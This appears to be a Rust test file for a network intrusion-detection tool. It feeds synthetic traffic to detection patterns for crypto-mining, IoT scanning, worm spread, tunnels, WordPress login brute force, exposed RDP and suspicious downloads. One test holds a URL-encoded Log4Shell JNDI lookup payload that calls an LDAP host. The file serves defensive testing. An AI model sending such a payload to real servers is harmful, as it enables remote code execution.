//! Every pattern that comes with the program: a case that fires, one just below, one that is harmless. And what people
//! may write wrongly.

use std::path::Path;

use expect_test::{Expect, expect};
use weir_detect::Shard;
use weir_model::Need;
use weir_testkit::notation;

use super::{SHIPPED, shipped};
use crate::config::Config;

const HAVE: &[Need] = &[
    Need::Packets,
    Need::TcpFlags,
    Need::Macs,
    Need::Payload,
    Need::BothDirections,
    Need::Unsampled,
];

/// What BPATTERNS says of flow notation under a configuration: submethod, source and sentence, each once.
fn said(config: &str, traffic: &str, shards: usize) -> Vec<String> {
    let config = Config::parse(config, Path::new("weir.toml")).unwrap_or_else(|error| panic!("{error}"));
    let mut instances = config.instances_for(HAVE, true).unwrap();
    instances.retain(|instance| instance.meta.code == "BPATTERNS");
    let batch = notation::batch(traffic);
    let mut found: Vec<_> = (0..shards)
        .flat_map(|index| Shard::new(index, shards, &instances).run(&batch))
        .collect();
    found.sort_by_key(|emission| (emission.seq, emission.tie));
    let mut last: Vec<(u64, String)> = Vec::new();
    for finding in found.into_iter().map(|emission| emission.finding) {
        let reason = finding.reason();
        assert!(!reason.contains('?'), "a placeholder has no value: {reason}");
        let line = format!(
            "{} {}: {reason} [{}]",
            finding.submethod.name, finding.source, finding.evidence
        );
        last.retain(|(cell, _)| *cell != finding.cell);
        last.push((finding.cell, line));
    }
    last.into_iter().map(|(_, line)| line).collect()
}

fn check(fires: &str, below: &str, harmless: &str, expect: Expect) {
    let one = said("", fires, 1);
    assert_eq!(one, said("", fires, 4), "the shard count shows");
    expect.assert_eq(&one.join("\n"));
    assert_eq!(said("", below, 1), Vec::<String>::new(), "just below");
    assert_eq!(said("", harmless, 1), Vec::<String>::new(), "harmless");
}

#[test]
fn all_can_be_read() {
    for (file, text) in SHIPPED {
        let read =
            super::of_text(text, file, "", &weir_query::NoLists).unwrap_or_else(|error| panic!("{error}"));
        assert!(
            read.about.len() > 100 && read.priority.is_some(),
            "{file} explains too little"
        );
        assert!(!read.compiled.name().starts_with(super::USER_PREFIX));
    }
    assert_eq!(shipped().len(), SHIPPED.len());
}

#[test]
fn mining() {
    check(
        "tx dns/query every 5min x3 10.0.0.5 > 10.0.0.1:53 dns.query=stratum.pool.example",
        "tx dns/query every 5min x2 10.0.0.5 > 10.0.0.1:53 dns.query=stratum.pool.example",
        "tx dns/query every 5min x9 10.0.0.5 > 10.0.0.1:53 dns.query=substratum.example",
        expect![
            "CryptocurrencyMining 10.0.0.5: 10.0.0.5 asked 3 times within an hour for pools of miners: stratum.pool.example [src ip 10.0.0.5 and dst ip 10.0.0.1 and dst port 53]"
        ],
    );
}

#[test]
fn knocking_at_devices() {
    check(
        "every 1s x41 10.0.0.5 > 198.51.100.{1..}:{23,2323} tcp S 60/1",
        "every 1s x80 10.0.0.5 > 198.51.100.{1..40}:23 tcp S 60/1",
        "every 30s x60 10.0.0.5 > 198.51.100.{1..}:23 tcp S 60/1",
        expect![
            "IoTMalware 10.0.0.5: 10.0.0.5 knocked at 41 hosts on ports 23, 2323 in 40 s [src ip 10.0.0.5]"
        ],
    );
}

#[test]
fn from_host_to_host() {
    check(
        "every 2s x31 10.0.0.5 <> 10.0.1.{1..}:445 tcp APSF 900/8 800/7 state=SF",
        "every 2s x90 10.0.0.5 <> 10.0.1.{1..30}:445 tcp APSF 900/8 800/7 state=SF",
        "every 2s x90 10.0.0.5 <> 10.0.1.{1..}:445 tcp S/RA 60/1 40/1 state=REJ",
        expect![
            "WormSpread 10.0.0.5: 10.0.0.5 opened port 445 of 31 hosts inside in 60 s [src ip 10.0.0.5 and dst port 445]"
        ],
    );
}

#[test]
fn dns_elsewhere() {
    check(
        "tx dns/query every 1s x5 10.0.0.5 > 198.51.100.7:8053 dns.query=a{1..}.example",
        "tx dns/query every 1s x4 10.0.0.5 > 198.51.100.7:8053 dns.query=a{1..}.example",
        "tx dns/query every 1s x50 10.0.0.5 > 198.51.100.7:53 dns.query=a{1..}.example\n\
         tx dns/query every 1s x50 10.0.0.5 > 10.0.0.1:5300 dns.query=a{1..}.example",
        expect![
            "DnsOddPort 10.0.0.5: 10.0.0.5 asked 198.51.100.7:8053 5 times by DNS on ports 8053 [src ip 10.0.0.5 and dst ip 198.51.100.7 and dst port 8053]"
        ],
    );
}

#[test]
fn hidden_services() {
    check(
        "tx tls/handshake 10.0.0.5 > 198.51.100.7:443 tls.sni=abcdefghij234567.onion.example",
        "tx tls/handshake 198.51.100.9 > 10.0.0.5:443 tls.sni=abcdefghij234567.onion.example",
        "tx dns/query x9 10.0.0.5 > 10.0.0.1:53 dns.query=onion.example\n\
         tx dns/query x9 10.0.0.5 > 10.0.0.1:53 dns.query=www.torproject.example",
        expect![
            "DarkwebViaTor2Web 10.0.0.5: 10.0.0.5 asked for hidden services through the web: abcdefghij234567.onion.example [src ip 10.0.0.5 and dst ip 198.51.100.7 and dst port 443]"
        ],
    );
}

#[test]
fn tunnels() {
    check(
        "tx dns/query 10.0.0.5 > 10.0.0.1:53 dns.query=global.rel.tunnels.api.visualstudio.com\n\
         tx tls/handshake 10.0.0.6 > 198.51.100.7:443 tls.sni=connect.ngrok-agent.com",
        "tx tls/handshake 198.51.100.9 > 10.0.0.5:443 tls.sni=connect.ngrok-agent.com",
        "tx dns/query 10.0.0.5 > 10.0.0.1:53 dns.query=marketplace.visualstudio.com\n\
         tx dns/query 10.0.0.5 > 10.0.0.1:53 dns.query=notngrok.io",
        expect![[r#"
            VSCodeTunnel 10.0.0.5: 10.0.0.5 used a development tunnel: global.rel.tunnels.api.visualstudio.com [src ip 10.0.0.5 and dst ip 10.0.0.1 and dst port 53]
            PublicTunnel 10.0.0.6: 10.0.0.6 used a public tunnel: connect.ngrok-agent.com [src ip 10.0.0.6 and dst ip 198.51.100.7 and dst port 443]"#]],
    );
}

#[test]
fn editors_passwords() {
    check(
        "tx http/request every 1s x21 198.51.100.7 > 10.0.0.9:80 http.method=POST http.uri=/wp-login.php",
        "tx http/request every 1s x20 198.51.100.7 > 10.0.0.9:80 http.method=POST http.uri=/wp-login.php",
        "tx http/request every 1s x90 198.51.100.7 > 10.0.0.9:80 http.method=GET http.uri=/wp-login.php",
        expect![
            "WpLogin 198.51.100.7: 198.51.100.7 sent 21 forms to log-in pages of 10.0.0.9:80: /wp-login.php [src ip 198.51.100.7 and dst ip 10.0.0.9 and dst port 80]"
        ],
    );
}

#[test]
fn open_to_the_outside() {
    check(
        "198.51.100.7 <> 10.0.0.9:3389 tcp APSF 900/8 1800/7 state=SF",
        "198.51.100.7 <> 10.0.0.9:3389 tcp APSR 900/8 120/3 state=RSTO",
        "198.51.100.7 <> 10.0.0.9:443 tcp APSF 900/8 1800/7 state=SF\n\
         10.0.0.7 <> 10.0.0.9:3389 tcp APSF 900/8 1800/7 state=SF",
        expect![
            "SuspiciousExtService 10.0.0.9: 10.0.0.9 answered 198.51.100.7 outside on port 3389 (1 connections) [src ip 198.51.100.7 and dst ip 10.0.0.9 and dst port 3389]"
        ],
    );
}

#[test]
fn lookups_in_java() {
    check(
        "tx http/request 198.51.100.7 > 10.0.0.9:80 http.uri=/q/%24%7Bjndi:ldap://192.0.2.1/a%7D",
        "tx http/request 198.51.100.7 > 10.0.0.9:80 http.uri=/q/%24jndi:ldap",
        "tx http/request 198.51.100.7 > 10.0.0.9:80 http.uri=/price/%24%7B12%7D",
        expect![
            "JndiLookup 198.51.100.7: 198.51.100.7 sent 1 requests with a lookup expression to 10.0.0.9:80: /q/%24%7Bjndi:ldap://192.0.2.1/a%7D [src ip 198.51.100.7 and dst ip 10.0.0.9 and dst port 80]"
        ],
    );
    check(
        "10.0.0.9 <> 198.51.100.7:1389 tcp APSF 300/6 400/5 state=SF",
        "10.0.0.9 > 198.51.100.7:1389 tcp S 60/1 state=S0",
        "10.0.0.9 <> 10.0.0.10:389 tcp APSF 300/6 400/5 state=SF",
        expect![
            "JavaCallback 10.0.0.9: 10.0.0.9 asked 198.51.100.7:1389 outside on ports 1389 (1 connections) [src ip 10.0.0.9 and dst ip 198.51.100.7 and dst port 1389]"
        ],
    );
}

#[test]
fn programs_of_strangers() {
    check(
        "tx http/request 10.0.0.5 > 198.51.100.7:80 http.host=198.51.100.7:8080 http.uri=/x/update.exe http.status=200",
        "tx http/request 10.0.0.5 > 198.51.100.7:80 http.host=198.51.100.7:8080 http.uri=/x/update.exe http.status=404",
        "tx http/request 10.0.0.5 > 198.51.100.7:80 http.host=files.example http.uri=/x/update.exe http.status=200\n\
         tx http/request 10.0.0.5 > 10.0.0.7:80 http.host=10.0.0.7:8080 http.uri=/x/update.exe http.status=200",
        expect![
            "ProgramFromBareAddress 10.0.0.5: 10.0.0.5 loaded from 198.51.100.7:80 without a name: 198.51.100.7:8080, /x/update.exe [src ip 10.0.0.5 and dst ip 198.51.100.7 and dst port 80]"
        ],
    );
}

const OWN: &str = r#"
lists.printers = ["10.0.9.0/24"]
[[patterns]]
name = "PrinterTalk"
title = "A printer talks to the outside"
pattern = "where src ip @printers and outbound having sum src bytes > 1M and distinct dst ip >= 2 per src ip within 10m"
detail = "{source} sent {sum src bytes} to {distinct dst ip} hosts"
priority = "high"
"#;

#[test]
fn peoples_own() {
    let traffic = "every 1min x2 10.0.9.5 <> 198.51.100.{1..}:443 tcp APS 600KiB/500 40/1";
    assert_eq!(
        said(OWN, traffic, 1),
        ["USER_PrinterTalk 10.0.9.5: 10.0.9.5 sent 1.17 MiB to 2 hosts [src ip 10.0.9.5 and dst port 443]"]
    );
    let slow = "every 15min x2 10.0.9.5 <> 198.51.100.{1..}:443 tcp APS 600KiB/500 40/1";
    assert_eq!(said(OWN, slow, 1), Vec::<String>::new());
    let off = format!("{OWN}\nenabled = false");
    assert_eq!(said(&off, traffic, 1), Vec::<String>::new());
    let triage = Config::parse(OWN, Path::new("weir.toml")).unwrap().triage();
    let key = |name: &str| triage.priorities.get(name).map(|priority| priority.word());
    assert_eq!(key("BPATTERNS.USER_PrinterTalk"), Some("high"));
    assert_eq!(key("BPATTERNS.VSCodeTunnel"), Some("low"));
}

#[test]
fn what_is_refused() {
    let refused = |change: (&str, &str), expect: Expect| {
        let text = OWN.replace(change.0, change.1);
        assert_ne!(text, OWN);
        let error = match Config::parse(&text, Path::new("weir.toml")) {
            Ok(_) => panic!("{text} was taken"),
            Err(error) => error.to_string(),
        };
        expect.assert_eq(&error);
    };
    refused(
        ("title =", "tittle ="),
        expect![[r#"patterns[1].tittle: unknown key; did you mean "title"?"#]],
    );
    refused(
        ("name = \"PrinterTalk\"\n", ""),
        expect![[r#"patterns[1]: needs name = "...""#]],
    );
    refused(
        ("{distinct dst ip}", "{distinct dst port}"),
        expect![
            "patterns[1]: detail: nothing fills {distinct dst port}; known are source, target, targets, span, FlowCount, UploadedData, DownloadedData, TargetCount, PortList, Samples, sum_src_bytes, distinct_dst_ip"
        ],
    );
    refused(
        ("priority = \"high\"", "source = \"responder\""),
        expect!["patterns[1]: the responder can only be the source of patterns that count per dst ip"],
    );
    refused(
        ("priority = \"high\"", "attack = [\"T1046\"]"),
        expect![[r#"patterns[1].attack: "T1046" is no tactic and technique such as "TA0011/T1071.004""#]],
    );
    refused(
        ("having", "havng"),
        expect![[r#"
        patterns[1].pattern: this does not belong here
          where src ip @printers and outbound havng sum src bytes > 1M and distinct dst ip >= 2 per src ip
                                              ^^^^^
        did you mean having?"#]],
    );
    refused(
        ("[[patterns]]", "[patterns]"),
        expect!["patterns: must be tables: write [[patterns]] above each"],
    );
}
